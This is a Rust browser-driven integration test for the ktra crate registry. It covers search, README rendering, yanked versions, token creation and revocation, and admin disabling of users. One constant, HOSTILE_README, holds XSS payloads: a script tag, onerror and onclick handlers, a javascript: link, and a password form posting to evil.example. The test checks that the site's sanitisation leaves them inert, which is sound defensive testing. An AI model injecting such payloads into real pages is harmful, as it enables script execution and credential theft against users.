//! The pages in a real headless Chromium: a developer finds a crate published with cargo,
//! reads its README and sees its yanked version marked; a hostile or huge README renders
//! inert and bounded. Screenshots of the main pages go to `KTRA_SCREENSHOTS_DIR` when it is
//! set (`make screenshots` writes the README's), else to a temporary directory.

use std::path::PathBuf;

use ktra_testing::browser::{Browser, Locator};
use ktra_testing::cargo::{CargoHome, library_manifest, package, rewrite_library_manifest};
use ktra_testing::registry::Registry;

/// A README as people write them.
const README: &str = "# Gizmo\n\nGizmos for **everyone**: small, fast and documented.\n\n\
    ```rust\nlet gizmo = gizmo::Gizmo::new();\ngizmo.spin();\n```\n\n\
    | feature | state |\n|---|---|\n| fast | yes |\n| small | yes |\n\n\
    - [x] spins\n- [ ] flies\n";

/// What a README must never get to run.
const HOSTILE_README: &str = "# Trap\n\n\
    <script>window.pwned = 1;</script>\n\
    <img src=\"x\" onerror=\"window.pwned = 2\">\n\
    [click me](javascript:window.pwned=3) <a href=\"#\" onclick=\"window.pwned=4\">or me</a>\n\
    <form action=\"https://evil.example\"><input name=\"password\"></form>\n";

fn screenshots_dir() -> (PathBuf, Option<tempfile::TempDir>) {
    match std::env::var_os("KTRA_SCREENSHOTS_DIR") {
        Some(dir) => {
            let dir = PathBuf::from(dir);
            std::fs::create_dir_all(&dir).unwrap();
            (dir, None)
        }
        None => {
            let temp = tempfile::tempdir().unwrap();
            (temp.path().to_owned(), Some(temp))
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_developer_finds_and_reads_a_crate_in_a_real_browser() {
    let (registry, token) = Registry::builder().start_with_user("alice").await;
    let index = format!("sparse+{}/index/", registry.base);
    let cargo = CargoHome::logged_in("ktra", &index, &token).await;
    let work = tempfile::tempdir().unwrap();
    let extra = "readme = \"README.md\"\nhomepage = \"https://gizmo.example\"\n\
                 repository = \"https://git.example/gizmo\"\nkeywords = [\"gizmo\", \"tools\"]\n";
    let gizmo = package(
        work.path(),
        "gizmo",
        &library_manifest("gizmo", "0.1.0", extra),
        &[("src/lib.rs", "pub fn gizmo() {}\n"), ("README.md", README)],
    );
    cargo.publish(&gizmo, "ktra").await;
    rewrite_library_manifest(&gizmo, "gizmo", "0.2.0", extra);
    cargo.publish(&gizmo, "ktra").await;
    cargo
        .ok(
            &gizmo,
            &["yank", "--version", "0.2.0", "--registry", "ktra"],
        )
        .await;
    let trap = package(
        work.path(),
        "trap",
        &library_manifest("trap", "1.0.0", "readme = \"README.md\"\n"),
        &[("src/lib.rs", ""), ("README.md", HOSTILE_README)],
    );
    cargo.publish(&trap, "ktra").await;
    // Five megabytes of README: the page shows the first megabyte and stays bounded.
    let line = "A line of a very long README that goes on and on and on.\n";
    let huge = format!("# Huge\n\n{}", line.repeat(5 * 1024 * 1024 / line.len()));
    let big = package(
        work.path(),
        "bigreadme",
        &library_manifest("bigreadme", "1.0.0", "readme = \"README.md\"\n"),
        &[("src/lib.rs", ""), ("README.md", &huge)],
    );
    cargo.publish(&big, "ktra").await;

    let (shots, _keep) = screenshots_dir();
    let browser = Browser::start(registry.dir()).await;
    browser.open(&registry.url("/")).await;
    assert!(browser.text("main").await.contains("gizmo"));
    browser.screenshot(&shots.join("home.png")).await;

    // Search as a person does: type into the box, press the button.
    let search = browser
        .client
        .find(Locator::Css("form.search input[name=q]"))
        .await
        .unwrap();
    search.send_keys("gizmo").await.unwrap();
    browser.click("form.search button").await;
    assert!(browser.text("h1").await.contains("gizmo"));
    assert!(browser.text("main").await.contains("1 found"));
    browser.screenshot(&shots.join("search.png")).await;
    browser.click("ul.listing a[href='/crates/gizmo']").await;

    // The crate page: the stable version, its README rendered, the yanked one marked.
    assert_eq!(browser.text("article.readme h1").await, "Gizmo");
    assert_eq!(browser.text("article.readme strong").await, "everyone");
    assert!(browser.text("article.readme table").await.contains("fast"));
    assert!(browser.text("h1").await.contains("0.1.0"));
    let versions = browser.text("ul.versions").await;
    assert!(versions.contains("0.2.0 yanked"), "{versions}");
    assert!(
        browser
            .text("aside")
            .await
            .contains("cargo add gizmo@0.1.0 --registry ktra")
    );
    browser.screenshot(&shots.join("crate.png")).await;

    // A README that tries everything runs nothing and keeps no form.
    browser.open(&registry.url("/crates/trap")).await;
    assert_eq!(browser.text("article.readme h1").await, "Trap");
    let inert = browser
        .eval(
            "const readme = document.querySelector('article.readme');
             return {
               pwned: window.pwned === undefined ? null : window.pwned,
               scripts: document.querySelectorAll('script').length,
               handlers: readme.querySelectorAll('[onerror],[onclick],[onload]').length,
               forms: readme.querySelectorAll('form,input,textarea,button').length,
               scriptLinks: [...document.querySelectorAll('a')]
                 .filter(a => a.href.startsWith('javascript:')).length,
             };",
        )
        .await;
    assert_eq!(
        inert,
        serde_json::json!({"pwned": null, "scripts": 0, "handlers": 0, "forms": 0, "scriptLinks": 0})
    );
    // Clicking what is left of the links runs nothing either.
    for link in browser
        .client
        .find_all(Locator::Css("article.readme a"))
        .await
        .unwrap()
    {
        if link.attr("href").await.unwrap().is_none() {
            link.click().await.unwrap();
        }
    }
    assert_eq!(
        browser.eval("return window.pwned === undefined;").await,
        true
    );

    browser.open(&registry.url("/crates/gizmo/0.2.0")).await;
    assert!(browser.text("h1").await.contains("yanked"));

    browser.open(&registry.url("/crates/bigreadme")).await;
    assert_eq!(browser.text("article.readme h1").await, "Huge");
    let size = browser.source().await.len();
    assert!(
        (1024 * 1024..3 * 1024 * 1024).contains(&size),
        "a 5 MB README makes a {size}-byte page"
    );

    browser.open(&registry.url("/users/alice")).await;
    assert!(browser.text("main").await.contains("Owns 3 crates."));
    for shot in ["home.png", "search.png", "crate.png"] {
        let png = std::fs::read(shots.join(shot)).unwrap();
        assert!(png.starts_with(b"\x89PNG"), "{shot} is no PNG");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_made_in_the_browser_publishes_until_revoked_and_an_administrator_disables_a_user()
{
    let (registry, _) = Registry::builder()
        .env("KTRA_AUTH_ADMINS", "root")
        .start_with_user("root")
        .await;
    let alice_api_token = registry.create_user("alice").await;
    let index = format!("sparse+{}/index/", registry.base);
    let (shots, _keep) = screenshots_dir();
    let browser = Browser::start(registry.dir()).await;

    let sign_in = |name: &'static str| {
        let browser = &browser;
        let registry = &registry;
        async move {
            browser.open(&registry.url("/login")).await;
            browser.fill("input[name=name]", name).await;
            browser.fill("input[name=password]", "password123").await;
            browser.click("form.stacked button").await;
        }
    };
    sign_in("alice").await;
    assert_eq!(browser.path().await, "/account/tokens");
    browser.fill("input[name=name]", "laptop").await;
    browser.fill("input[name=expires_in_days]", "7").await;
    browser.click("form.stacked button").await;
    assert_eq!(browser.text("h1").await, "Token created");
    let token = browser.text("#secret").await;
    assert!(token.starts_with("ktra_"), "{token}");

    let cargo = CargoHome::logged_in("ktra", &index, &token).await;
    let work = tempfile::tempdir().unwrap();
    let lib = package(
        work.path(),
        "from-browser",
        &library_manifest("from-browser", "0.1.0", ""),
        &[("src/lib.rs", "")],
    );
    cargo.publish(&lib, "ktra").await;

    browser.open(&registry.url("/account/tokens")).await;
    assert!(browser.text("table.grid").await.contains("laptop"));
    browser.screenshot(&shots.join("tokens.png")).await;
    browser.click("button[aria-label='Revoke laptop']").await;
    assert!(!browser.text("main").await.contains("laptop"));
    rewrite_library_manifest(&lib, "from-browser", "0.2.0", "");
    let refused = cargo
        .output(
            &lib,
            &[
                "publish",
                "--registry",
                "ktra",
                "--no-verify",
                "--allow-dirty",
            ],
            None,
        )
        .await;
    assert!(!refused.status.success());
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("invalid or revoked"), "{stderr}");

    // Signed out, then in as the administrator, who disables alice.
    browser.click("nav.account form button").await;
    assert_eq!(browser.path().await, "/");
    sign_in("root").await;
    browser.open(&registry.url("/admin/users")).await;
    browser.click("button[aria-label='Disable alice']").await;
    assert!(
        browser
            .text("p.notice")
            .await
            .contains("user `alice` is disabled")
    );
    browser.screenshot(&shots.join("admin.png")).await;
    let after = registry
        .get("/ktra/api/v1/tokens", Some(&alice_api_token))
        .await;
    assert_eq!(after.status(), reqwest::StatusCode::FORBIDDEN);
    browser
        .open(&registry.url("/admin/audit?action=user.disable"))
        .await;
    assert!(browser.text("table.grid").await.contains("alice"));
}
